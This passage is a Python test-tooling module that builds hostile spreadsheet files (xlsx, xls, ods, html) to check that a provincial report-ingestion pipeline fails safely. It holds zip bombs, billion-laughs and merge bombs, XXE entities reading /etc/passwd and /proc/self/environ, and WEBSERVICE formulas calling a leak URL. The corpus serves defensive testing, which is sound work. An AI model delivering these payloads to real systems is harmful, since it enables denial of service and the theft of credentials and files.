"""Hostile and broken submissions: a corpus that must cost findings, never the run.

What a province's inbox really receives besides honest reports: zip bombs, sheets whose
two far-apart cells make a reader allocate rows × columns (calamine issue #693: a 5 KB
xlsx aborts the process), entity bombs, password-protected workbooks, .xlsb, truncated and
corrupt files, documents and pictures renamed to .xlsx, HTML and CSV under Excel names,
thousands of sheets or columns, and file names that try to leave the inbox.

Every file is built here from bytes (no binary is committed): the containers (OOXML zip,
OLE2 compound file with a BIFF8 workbook, OpenDocument) are written by small builders so
that each defect is exactly the one named. `build_corpus` writes `--count` files into a
province folder structure under `--out` with a JSON manifest naming the rule id the
pipeline must raise for each file:

    python -m tools.hostile --out DIR [--count 200] [--period 2026-10] [--province 15]
"""

from __future__ import annotations

import argparse
import io
import json
import os
import random
import struct
import sys
import zipfile
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import asdict, dataclass
from pathlib import Path

import openpyxl

from antq.schemas.catalog import catalog

PERIOD = "2026-10"
PROVINCE = "15"  # Lào Cai: the folder every hostile file is sent from
OTHER_PROVINCE_COMMUNE = ("00070", "Phường Hoàn Kiếm")  # Hà Nội: not Lào Cai's to report
OWN_COMMUNE = "Xã Gia Phú"  # a commune of Lào Cai

# ----------------------------------------------------------------------- valid report


def report_bytes(
    unit_line: str = f"CÔNG AN {OWN_COMMUNE.upper()}",
    province_line: str = "CÔNG AN TỈNH LÀO CAI",
    period_line: str = "Tháng 10 năm 2026",
    n_indicators: int = 8,
) -> bytes:
    """A small, valid vertical form (title, STT | Nội dung | ĐVT | Số liệu), the seed that
    the hostile variants and the fuzz test mutate."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Báo cáo"
    ws["A1"], ws["A2"] = province_line, unit_line
    ws["A4"] = "BÁO CÁO KẾT QUẢ PHONG TRÀO TOÀN DÂN BẢO VỆ AN NINH TỔ QUỐC"
    ws["A5"] = period_line
    for col, header in enumerate(["STT", "Nội dung", "ĐVT", "Số liệu"], start=1):
        ws.cell(8, col, header)
    indicators = [i for i in catalog().indicators if i.value_type == "integer"][:n_indicators]
    for n, indicator in enumerate(indicators):
        ws.cell(9 + n, 1, n + 1)
        ws.cell(9 + n, 2, indicator.label)
        ws.cell(9 + n, 3, indicator.unit_label)
        ws.cell(9 + n, 4, 3 + n)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


# ----------------------------------------------------------------------- OOXML (.xlsx)

_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_SHEET_TYPE = f"{_REL_NS}/worksheet"


def sheet_xml(
    cells: str,
    dimension: str | None = "A1",
    merges: Sequence[str] = (),
    prolog: str = "",
) -> str:
    """A worksheet part: `cells` is the raw `<row>...</row>` markup of sheetData."""
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    merge = (
        f'<mergeCells count="{len(merges)}">'
        + "".join(f'<mergeCell ref="{m}"/>' for m in merges)
        + "</mergeCells>"
        if merges
        else ""
    )
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
        f'<worksheet xmlns="{_NS}" xmlns:r="{_REL_NS}">{dim}'
        f"<sheetData>{cells}</sheetData>{merge}</worksheet>"
    )


def inline_cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def number_cell(ref: str, value: float) -> str:
    return f'<c r="{ref}"><v>{value}</v></c>'


def xlsx_bytes(
    sheets: Sequence[str],
    shared_strings: str | None = None,
    extra: Mapping[str, bytes] | None = None,
    names: Sequence[str] | None = None,
    compress: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """A minimal OOXML workbook from raw worksheet parts, every byte under control."""
    names = list(names or [f"Sheet{i + 1}" for i in range(len(sheets))])
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i + 1}.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for i in range(len(sheets))
    )
    if shared_strings is not None:
        overrides += (
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
        )
    content_types = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.sheet.main+xml"/>' + overrides + "</Types>"
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{_REL_NS}/officeDocument" Target="xl/workbook.xml"/>'
        "</Relationships>"
    )
    sheet_list = "".join(
        f'<sheet name="{name}" sheetId="{i + 1}" r:id="rId{i + 1}"/>'
        for i, name in enumerate(names)
    )
    workbook = (
        f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{_NS}" xmlns:r="{_REL_NS}">'
        f"<sheets>{sheet_list}</sheets></workbook>"
    )
    book_rels = "".join(
        f'<Relationship Id="rId{i + 1}" Type="{_SHEET_TYPE}" Target="worksheets/sheet{i + 1}.xml"/>'
        for i in range(len(sheets))
    )
    if shared_strings is not None:
        book_rels += (
            f'<Relationship Id="rIdS" Type="{_REL_NS}/sharedStrings" Target="sharedStrings.xml"/>'
        )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compress) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr("_rels/.rels", rels)
        archive.writestr("xl/workbook.xml", workbook)
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            f'openxmlformats.org/package/2006/relationships">{book_rels}</Relationships>',
        )
        for i, xml in enumerate(sheets):
            archive.writestr(f"xl/worksheets/sheet{i + 1}.xml", xml)
        if shared_strings is not None:
            archive.writestr("xl/sharedStrings.xml", shared_strings)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def rezip(data: bytes, change: Callable[[str, bytes], bytes | None]) -> bytes:
    """The same zip with each entry passed through `change` (None drops the entry)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            new = change(info.filename, source.read(info))
            if new is not None:
                target.writestr(info.filename, new)
    return out.getvalue()


# ----------------------------------------------------------------- OLE2 (.xls) and BIFF8

_ENDOFCHAIN, _FREESECT, _FATSECT, _NOSTREAM = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
_SECTOR = 512
_OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def _dir_entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
    encoded = (name + "\0").encode("utf-16-le") if name else b""
    return struct.pack(
        "<64sHBBIII16sIQQIQ",
        encoded,
        len(encoded),
        kind,
        1,  # black
        _NOSTREAM,
        right,
        child,
        b"\0" * 16,
        0,
        0,
        0,
        start,
        size,
    )


def cfb_bytes(
    streams: Mapping[str, bytes], header_patch: Mapping[int, bytes] | None = None
) -> bytes:
    """A version-3 OLE2 compound file holding `streams` at the root.

    Streams are padded to the 4,096-byte mini-stream cutoff so that every one lives in
    regular sectors; the directory is a right-leaning chain sorted the way the format
    compares names, which every reader accepts. `header_patch` overwrites header bytes
    (offset -> bytes) to make a lying header.
    """
    names = sorted(streams, key=lambda n: (len(n), n.upper()))
    body = b""
    starts: list[int] = []
    fat: list[int] = []
    for name in names:
        data = streams[name].ljust(4096, b"\0")
        data = data.ljust(-(-len(data) // _SECTOR) * _SECTOR, b"\0")
        first = len(fat)
        n = len(data) // _SECTOR
        fat.extend(range(first + 1, first + n))
        fat.append(_ENDOFCHAIN)
        starts.append(first)
        body += data
    entries = [_dir_entry("Root Entry", 5, 1 if names else _NOSTREAM, _NOSTREAM, _ENDOFCHAIN, 0)]
    for i, name in enumerate(names):
        right = i + 2 if i + 1 < len(names) else _NOSTREAM
        entries.append(
            _dir_entry(name, 2, _NOSTREAM, right, starts[i], len(streams[name].ljust(4096, b"\0")))
        )
    while len(entries) % 4:
        entries.append(_dir_entry("", 0, _NOSTREAM, _NOSTREAM, 0, 0))
    directory = b"".join(entries)
    dir_start = len(fat)
    n_dir = len(directory) // _SECTOR
    fat.extend(range(dir_start + 1, dir_start + n_dir))
    fat.append(_ENDOFCHAIN)
    n_fat = 1
    while len(fat) + n_fat > n_fat * 128:
        n_fat += 1
    fat_start = len(fat)
    fat.extend([_FATSECT] * n_fat)
    fat.extend([_FREESECT] * (n_fat * 128 - len(fat)))
    difat = list(range(fat_start, fat_start + n_fat)) + [_FREESECT] * (109 - n_fat)
    header = (
        _OLE_MAGIC
        + b"\0" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\0" * 6
        + struct.pack("<IIIIIIIII", 0, n_fat, dir_start, 0, 4096, _ENDOFCHAIN, 0, _ENDOFCHAIN, 0)
        + struct.pack("<109I", *difat)
    )
    for offset, patch in (header_patch or {}).items():
        header = header[:offset] + patch + header[offset + len(patch) :]
    return header + body + directory + struct.pack(f"<{len(fat)}I", *fat)


def _record(kind: int, data: bytes = b"") -> bytes:
    return struct.pack("<HH", kind, len(data)) + data


def _bof(kind: int) -> bytes:
    return _record(0x0809, struct.pack("<HHHHII", 0x0600, kind, 0x0DBB, 0x07CC, 0, 0x06))


def biff8_workbook(
    cells: Iterable[tuple[int, int, object]],
    dimensions: tuple[int, int, int, int] | None = None,
    sheet_name: str = "Sheet1",
    sst_unique: int | None = None,
    filepass: bool = False,
) -> bytes:
    """A BIFF8 `Workbook` stream with one worksheet: numbers and (shared) strings at
    (row, column); `dimensions` = (first row, last row + 1, first col, last col + 1) as
    written in the DIMENSIONS record; `sst_unique` lies about the string table's size."""
    cells = list(cells)
    strings = [v for _, _, v in cells if isinstance(v, str)]
    sst_body = struct.pack("<ii", len(strings), len(strings) if sst_unique is None else sst_unique)
    for text in strings:
        raw = text.encode("utf-16-le")
        sst_body += struct.pack("<HB", len(text), 1) + raw
    sheet_records = b""
    if dimensions is not None:
        r0, r1, c0, c1 = dimensions
        sheet_records += _record(0x0200, struct.pack("<IIHHH", r0, r1, c0, c1, 0))
    index = 0
    for r, c, value in cells:
        if isinstance(value, str):
            sheet_records += _record(0x00FD, struct.pack("<HHHI", r, c, 0, index))
            index += 1
        else:
            sheet_records += _record(0x0203, struct.pack("<HHHd", r, c, 0, float(value)))  # type: ignore[arg-type]
    sheet = _bof(0x0010) + sheet_records + _record(0x000A)
    name = sheet_name.encode("utf-16-le")

    def globals_part(position: int) -> bytes:
        part = _bof(0x0005)
        if filepass:
            part += _record(0x002F, struct.pack("<HHH", 1, 1, 1) + b"\0" * 48)
        part += _record(0x0042, struct.pack("<H", 1200))
        part += _record(0x0085, struct.pack("<IBBBB", position, 0, 0, len(sheet_name), 1) + name)
        part += _record(0x00FC, sst_body)
        return part + _record(0x000A)

    position = len(globals_part(0))
    return globals_part(position) + sheet


def xls_bytes(cells: Iterable[tuple[int, int, object]], **options: object) -> bytes:
    """A legacy .xls: a BIFF8 workbook in an OLE2 compound file."""
    return cfb_bytes({"Workbook": biff8_workbook(cells, **options)})  # type: ignore[arg-type]


# ------------------------------------------------------------------ OpenDocument (.ods)

_ODS_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
)


def ods_cell(value: object, repeat: int = 1) -> str:
    rep = f' table:number-columns-repeated="{repeat}"' if repeat != 1 else ""
    if value is None:
        return f"<table:table-cell{rep}/>"
    if isinstance(value, int | float):
        return (
            f'<table:table-cell{rep} office:value-type="float" office:value="{value}">'
            f"<text:p>{value}</text:p></table:table-cell>"
        )
    return f'<table:table-cell{rep} office:value-type="string"><text:p>{value}</text:p></table:table-cell>'


def ods_row(cells: str, repeat: int = 1) -> str:
    rep = f' table:number-rows-repeated="{repeat}"' if repeat != 1 else ""
    return f"<table:table-row{rep}>{cells}</table:table-row>"


def ods_bytes(tables: Sequence[str], prolog: str = "") -> bytes:
    """An OpenDocument spreadsheet from raw `<table:table-row>` markup, one table each."""
    body = "".join(
        f'<table:table table:name="Bang{i + 1}">{rows}</table:table>'
        for i, rows in enumerate(tables)
    )
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<office:document-content {_ODS_NS} '
        f'office:version="1.2"><office:body><office:spreadsheet>{body}'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:'
        'names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" '
        'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(
            zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet"
        )
        archive.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
        archive.writestr("META-INF/manifest.xml", manifest, compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


# ------------------------------------------------------------------------- the defects
#
# Each kind builds one file from a random source (variations: where the far cell lies,
# how big the bomb is, which part carries the entity...) and names the rule id the
# pipeline must raise. `None` means "read by content, any outcome but a crash".


@dataclass(frozen=True)
class Hostile:
    kind: str
    rule: str | None
    suffix: str
    data: bytes


def _far_cell(rng: random.Random) -> str:
    from antq.cells import a1

    return a1(rng.randint(100_000, 1_048_575), rng.randint(2_000, 16_383))


def extent_bomb(rng: random.Random) -> Hostile:
    """calamine #693: two far-apart cells, the dimension lying, absent or honest."""
    far = _far_cell(rng)
    dimension = rng.choice([None, "A1", "A1:D20", f"A1:{far}"])
    cells = f'<row r="1">{number_cell("A1", 1)}</row>'
    row = int("".join(ch for ch in far if ch.isdigit()))
    cells += f'<row r="{row}">{number_cell(far, 2)}</row>'
    return Hostile(
        "extent-bomb", "file-too-large", ".xlsx", xlsx_bytes([sheet_xml(cells, dimension)])
    )


def many_columns(rng: random.Random) -> Hostile:
    """One wide table: thousands of filled columns on enough rows to pass the cell limit."""
    n_cols = rng.choice([16_384, 12_000, 8_000])
    n_rows = 2_000_000 // n_cols + rng.randint(2, 30)
    row = "".join(f"<c><v>{c % 7}</v></c>" for c in range(n_cols))
    cells = "".join(f'<row r="{r}">{row}</row>' for r in range(1, 3))
    last = f'<row r="{n_rows}"><c r="B{n_rows}"><v>1</v></c></row>'
    return Hostile("many-columns", "file-too-large", ".xlsx", xlsx_bytes([sheet_xml(cells + last)]))


def merge_bomb(rng: random.Random) -> Hostile:
    ref = rng.choice(["A1:XFD1048576", "A1:Z1048576", "B2:XFD200"])
    extra = [f"A{r}:XFD{r}" for r in range(3, rng.randint(200, 400))]
    merges = [ref] if ref != "B2:XFD200" else extra
    xml = sheet_xml(f'<row r="1">{inline_cell("A1", "Gộp")}</row>', merges=merges)
    return Hostile("merge-bomb", "file-too-large", ".xlsx", xlsx_bytes([xml]))


def merged_sheets(rng: random.Random) -> Hostile:
    """A few sheets each merging about two million cells, each under the per-sheet limit:
    openpyxl makes an object of every merged cell, so a marked-up copy would take minutes."""
    n_sheets = rng.choice([3, 4, 6])
    rows = rng.choice([122, 110, 100])
    if rng.random() < 0.3:
        spanned = (
            f'<table:table-cell table:number-columns-spanned="16384" '
            f'table:number-rows-spanned="{rows}" office:value-type="string">'
            "<text:p>Gộp</text:p></table:table-cell>"
        )
        return Hostile(
            "merged-sheets", "file-too-large", ".ods", ods_bytes([ods_row(spanned)] * n_sheets)
        )
    xml = sheet_xml(f'<row r="1">{inline_cell("A1", "Gộp")}</row>', merges=[f"A1:XFD{rows}"])
    return Hostile("merged-sheets", "file-too-large", ".xlsx", xlsx_bytes([xml] * n_sheets))


def million_rows(rng: random.Random) -> Hostile:
    """A million tiny rows (under 1 MB packed): read in a second, but a marked-up copy
    through openpyxl would cost most of a minute and a gigabyte."""
    n_rows = rng.choice([1_000_000, 900_000])
    cells = "".join(f'<row r="{r}"><c r="A{r}"><v>{r % 10}</v></c></row>' for r in range(1, n_rows))
    return Hostile("million-rows", "layout-unknown", ".xlsx", xlsx_bytes([sheet_xml(cells, None)]))


def unknown_units_table(rng: random.Random) -> Hostile:
    """A province table whose rows name tens of thousands of communes that do not exist:
    one finding each, which must not flood the province's report."""
    n_rows = rng.choice([30_000, 20_000])
    indicators = [i for i in catalog().indicators if i.value_type == "integer"][:3]
    header = ["STT", "Xã, phường", *(i.label for i in indicators)]
    strings = [*header] + [f"Xã Không Có Thật {r}" for r in range(n_rows)]
    rows = [
        '<row r="1">'
        + "".join(f'<c r="{chr(65 + c)}1" t="s"><v>{c}</v></c>' for c in range(len(header)))
        + "</row>"
    ]
    for r in range(n_rows):
        n = r + 2
        rows.append(
            f'<row r="{n}">{number_cell(f"A{n}", r + 1)}'
            f'<c r="B{n}" t="s"><v>{len(header) + r}</v></c>'
            + "".join(number_cell(f"{chr(67 + c)}{n}", (r + c) % 9) for c in range(3))
            + "</row>"
        )
    shared = (
        f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{_NS}" count="{len(strings)}" '
        f'uniqueCount="{len(strings)}">'
        + "".join(f"<si><t>{s}</t></si>" for s in strings)
        + "</sst>"
    )
    data = xlsx_bytes([sheet_xml("".join(rows), None)], shared_strings=shared)
    return Hostile("unknown-units-table", "unit-unknown", ".xlsx", data)


def live_content(rng: random.Random) -> Hostile:
    """A valid report carrying what must never reach the marked-up copy sent back: a
    conditional format and a data validation calling WEBSERVICE, an Auto_Open name, a
    formula. Read by content; its copy holds values and marks only."""
    from openpyxl.formatting.rule import FormulaRule
    from openpyxl.workbook.defined_name import DefinedName
    from openpyxl.worksheet.datavalidation import DataValidation

    book = openpyxl.load_workbook(io.BytesIO(report_bytes()))
    ws = book.active
    url = rng.choice(["http://x.invalid/?", "http://10.0.0.1/leak?v="])
    ws.conditional_formatting.add(
        "D9:D16", FormulaRule(formula=[f'ISNUMBER(WEBSERVICE("{url}"&D9))'])
    )
    validation = DataValidation(type="custom", formula1=f'=WEBSERVICE("{url}")')
    validation.add("D10")
    ws.add_data_validation(validation)
    book.defined_names["Auto_Open"] = DefinedName("Auto_Open", attr_text="'Báo cáo'!$A$1")
    ws["F9"] = "=SUM(D9:D16)"
    buffer = io.BytesIO()
    book.save(buffer)
    return Hostile("live-content", None, ".xlsx", buffer.getvalue())


def many_sheets(rng: random.Random) -> Hostile:
    n = rng.choice([600, 1_500, 3_000])
    xml = sheet_xml(f'<row r="1">{number_cell("A1", 1)}</row>')
    return Hostile("many-sheets", "file-too-large", ".xlsx", xlsx_bytes([xml] * n))


def shared_strings_lie(rng: random.Random) -> Hostile:
    count = rng.choice([4_000_000_000, 2_147_483_647, 50_000_000])
    sst = (
        f'<?xml version="1.0"?><sst xmlns="{_NS}" count="{count}" uniqueCount="{count}">'
        "<si><t>Số liệu</t></si></sst>"
    )
    xml = sheet_xml('<row r="1"><c r="A1" t="s"><v>0</v></c></row>')
    return Hostile("shared-strings-lie", "file-too-large", ".xlsx", xlsx_bytes([xml], sst))


def zip_bomb(rng: random.Random) -> Hostile:
    """An entry that inflates a thousandfold: in the sheet itself or beside it."""
    size = rng.choice([3, 5, 8]) * 1024 * 1024
    padding = b" " * size
    if rng.random() < 0.5:
        xml = sheet_xml(f'<row r="1">{number_cell("A1", 1)}</row>').encode()
        xml = xml.replace(b"<sheetData>", b"<sheetData>" + padding)
        return Hostile("zip-bomb", "file-too-large", ".xlsx", xlsx_bytes([xml.decode()]))
    extra = {f"xl/media/image{rng.randint(1, 9)}.bin": padding}
    data = xlsx_bytes([sheet_xml(f'<row r="1">{number_cell("A1", 1)}</row>')], extra=extra)
    return Hostile("zip-bomb", "file-too-large", ".xlsx", data)


def nested_zip(rng: random.Random) -> Hostile:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("0.txt", b"0" * 100_000)
    name = rng.choice(["xl/bao-cao.zip", "xl/worksheets/_rels/data.bin", "customXml/item9.xlsx"])
    data = xlsx_bytes(
        [sheet_xml(f'<row r="1">{number_cell("A1", 1)}</row>')], extra={name: inner.getvalue()}
    )
    return Hostile("nested-zip", "file-too-large", ".xlsx", data)


def many_entries(rng: random.Random) -> Hostile:
    extra = {f"xl/media/m{i}.xml": b"<a/>" for i in range(rng.choice([5_100, 6_000]))}
    data = xlsx_bytes([sheet_xml(f'<row r="1">{number_cell("A1", 1)}</row>')], extra=extra)
    return Hostile("many-entries", "file-too-large", ".xlsx", data)


def _patch_zip_field(data: bytes, name: str, flag_or: int = 0, size: int | None = None) -> bytes:
    """Rewrite the flags or the declared size of one entry, in its local and central headers."""
    raw = bytearray(data)
    encoded = name.encode()
    for signature, flag_at, size_at, name_at in (
        (b"PK\x03\x04", 6, 22, 30),
        (b"PK\x01\x02", 8, 24, 46),
    ):
        start = 0
        while (at := raw.find(signature, start)) >= 0:
            start = at + 4
            if raw[at + name_at : at + name_at + len(encoded)] != encoded:
                continue
            if flag_or:
                (flags,) = struct.unpack_from("<H", raw, at + flag_at)
                struct.pack_into("<H", raw, at + flag_at, flags | flag_or)
            if size is not None:
                struct.pack_into("<I", raw, at + size_at, size)
    return bytes(raw)


def zip_size_lie(rng: random.Random) -> Hostile:
    """The directory declares a few bytes for a sheet that inflates to megabytes."""
    xml = sheet_xml(f'<row r="1">{number_cell("A1", 1)}</row>')
    base = xlsx_bytes([xml.replace("<sheetData>", "<sheetData>" + " " * 3_000_000)])
    data = _patch_zip_field(base, "xl/worksheets/sheet1.xml", size=rng.randint(200, 4_000))
    return Hostile("zip-size-lie", "file-unreadable", ".xlsx", data)


def zip_password(rng: random.Random) -> Hostile:
    part = rng.choice(["xl/worksheets/sheet1.xml", "xl/workbook.xml"])
    data = _patch_zip_field(report_bytes(), part, flag_or=0x1)
    return Hostile("zip-password", "file-encrypted", ".xlsx", data)


# Nine levels of ten: "&i;" expands to 10^8 copies of "lol" (the classic billion laughs).
_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY a "lol">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8))
    + "]>"
)


def billion_laughs(rng: random.Random) -> Hostile:
    """Nested entities that expand to gigabytes, in whichever part a reader parses first."""
    where = rng.choice(["sheet", "shared", "workbook"])
    xml = sheet_xml(f'<row r="1">{inline_cell("A1", "&i;")}</row>', prolog=_LAUGHS)
    if where == "sheet":
        return Hostile("billion-laughs", "file-unreadable", ".xlsx", xlsx_bytes([xml]))
    plain = sheet_xml('<row r="1"><c r="A1" t="s"><v>0</v></c></row>')
    sst = f'<?xml version="1.0"?>{_LAUGHS}<sst xmlns="{_NS}" count="1" uniqueCount="1"><si><t>&i;</t></si></sst>'
    data = xlsx_bytes([plain], sst)
    if where == "workbook":
        data = rezip(
            xlsx_bytes([plain], sst.replace(_LAUGHS, "").replace("&i;", "x")),
            lambda name, raw: (
                raw.replace(b"?><workbook", b"?>" + _LAUGHS.encode() + b"<workbook")
                if name == "xl/workbook.xml"
                else raw
            ),
        )
    return Hostile("billion-laughs", "file-unreadable", ".xlsx", data)


def xxe(rng: random.Random) -> Hostile:
    target = rng.choice(["file:///etc/passwd", "http://127.0.0.1:9/x", "file:///proc/self/environ"])
    prolog = f'<!DOCTYPE r [<!ENTITY x SYSTEM "{target}">]>'
    if rng.random() < 0.5:
        xml = sheet_xml(f'<row r="1">{inline_cell("A1", "&x;")}</row>', prolog=prolog)
        return Hostile("xxe", "file-unreadable", ".xlsx", xlsx_bytes([xml]))
    table = ods_row(
        '<table:table-cell office:value-type="string"><text:p>&x;</text:p></table:table-cell>'
    )
    return Hostile("xxe", "file-unreadable", ".ods", ods_bytes([table], prolog=prolog))


def encrypted_ooxml(rng: random.Random) -> Hostile:
    """A workbook saved with "Encrypt with password": an OLE2 file with EncryptedPackage."""
    suffix = rng.choice([".xlsx", ".xlsx", ".xls"])
    try:
        from msoffcrypto.format.ooxml import OOXMLFile  # optional: a real encrypted file

        out = io.BytesIO()
        OOXMLFile(io.BytesIO(report_bytes())).encrypt(f"matkhau{rng.randint(0, 99)}", out)
        return Hostile("encrypted", "file-encrypted", suffix, out.getvalue())
    except ImportError:
        return Hostile("encrypted", "file-encrypted", suffix, crafted_encrypted(rng))


def crafted_encrypted(rng: random.Random) -> bytes:
    """The container of an encrypted workbook without the cryptography: the streams
    Office writes (EncryptionInfo, EncryptedPackage, DataSpaces) with random payloads."""
    return cfb_bytes(
        {
            "EncryptionInfo": struct.pack("<HHI", 4, 4, 0x40) + rng.randbytes(200),
            "EncryptedPackage": struct.pack("<Q", 6_000) + rng.randbytes(6_000),
            "\x06DataSpaces": b"",
        }
    )


def encrypted_xls(rng: random.Random) -> Hostile:
    data = xls_bytes([(0, 0, "Báo cáo"), (1, 1, float(rng.randint(1, 99)))], filepass=True)
    return Hostile("encrypted-xls", "file-encrypted", ".xls", data)


def xls_dimensions_bomb(rng: random.Random) -> Hostile:
    dims = rng.choice(
        [
            (0, 0xFFFFFFF0, 0, 0xFFFF),
            (0, 1_000_000, 0, 256),
            (0, 65_536, 0, 200),
            (0, 3_000_000, 0, 1),
        ]
    )
    return Hostile(
        "xls-dimensions", "file-too-large", ".xls", xls_bytes([(0, 0, 1.0)], dimensions=dims)
    )


def xls_dimensions_inverted(rng: random.Random) -> Hostile:
    first = rng.randint(5, 60_000)
    data = xls_bytes([(0, 0, 1.0)], dimensions=(first, rng.randint(1, first - 1), 0, 3))
    return Hostile("xls-dimensions-inverted", "file-unreadable", ".xls", data)


def xls_far_cells(rng: random.Random) -> Hostile:
    data = xls_bytes([(0, 0, 1.0), (rng.randint(20_000, 65_535), rng.randint(120, 255), 2.0)])
    return Hostile("xls-far-cells", "file-too-large", ".xls", data)


def xls_merge_panic(rng: random.Random) -> Hostile:
    """A MERGEDCELLS record claiming more ranges than it holds: calamine panics on it."""
    stream = biff8_workbook([(0, 0, 1.0)])
    at = stream.rfind(struct.pack("<H", 0x0809)) + 20
    record = _record(0x00E5, struct.pack("<H", rng.randint(10, 999)) + b"\0" * 8)
    return Hostile(
        "xls-merge-panic",
        "file-unreadable",
        ".xls",
        cfb_bytes({"Workbook": stream[:at] + record + stream[at:]}),
    )


def ole_corrupt(rng: random.Random) -> Hostile:
    """A compound file header that lies: a directory outside the file, an impossible sector
    size or format version."""
    good = xls_bytes([(0, 0, 1.0)])
    patch = rng.choice(
        [
            {48: struct.pack("<I", 0x00FFFFFF)},  # first directory sector
            {30: struct.pack("<H", 20)},  # sector shift: 1 MB sectors
            {26: struct.pack("<H", 7)},  # a format version that does not exist
        ]
    )
    raw = bytearray(good)
    for offset, value in patch.items():
        raw[offset : offset + len(value)] = value
    return Hostile("ole-corrupt", "file-unreadable", ".xls", bytes(raw))


def ole_cycle(rng: random.Random) -> Hostile:
    """The Workbook stream's sector chain loops back on itself before the stream ends."""
    raw = bytearray(xls_bytes([(0, 0, 1.0)]))
    fat_at = len(raw) - 512
    at = rng.randint(1, 6)  # the 4,096-byte stream takes sectors 0..7
    struct.pack_into("<I", raw, fat_at + at * 4, rng.randint(0, at))
    return Hostile("ole-cycle", "file-unreadable", ".xls", bytes(raw))


def ods_repeat_bomb(rng: random.Random) -> Hostile:
    kind = rng.choice(["rows", "cols", "both"])
    cell = ods_cell(1)
    if kind == "rows":
        rows = ods_row(cell, repeat=rng.choice([5_000_000, 100_000_000]))
    elif kind == "cols":
        rows = ods_row(ods_cell(None, repeat=rng.choice([50_000, 10**9])) + cell)
    else:
        rows = ods_row(ods_cell(1, repeat=10_000), repeat=rng.choice([500, 100_000]))
    return Hostile("ods-repeat-bomb", "file-too-large", ".ods", ods_bytes([rows]))


def ods_laughs(rng: random.Random) -> Hostile:
    rows = ods_row(
        '<table:table-cell office:value-type="string"><text:p>&i;</text:p></table:table-cell>'
    )
    return Hostile("ods-laughs", "file-unreadable", ".ods", ods_bytes([rows], prolog=_LAUGHS))


def html_span_bomb(rng: random.Random) -> Hostile:
    n = rng.choice([3, 10, 50])
    cells = "".join(f'<td rowspan="{10**6}" colspan="{10**6}">{i}</td>' for i in range(n))
    html = f"<html><body><table><tr>{cells}</tr><tr><td>x</td></tr></table></body></html>"
    return Hostile("html-span-bomb", "file-too-large", ".xls", html.encode())


def xlsb(rng: random.Random) -> Hostile:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.bin", rng.randbytes(300))
        archive.writestr("xl/worksheets/sheet1.bin", rng.randbytes(600))
    return Hostile(
        "xlsb", "file-format-unsupported", rng.choice([".xlsb", ".xlsx"]), buffer.getvalue()
    )


def truncated(rng: random.Random) -> Hostile:
    """A file cut short (an attachment that did not finish downloading)."""
    if rng.random() < 0.7:
        good = report_bytes()
        return Hostile(
            "truncated", "file-unreadable", ".xlsx", good[: rng.randint(10, len(good) - 30)]
        )
    good = xls_bytes([(0, 0, 1.0)])
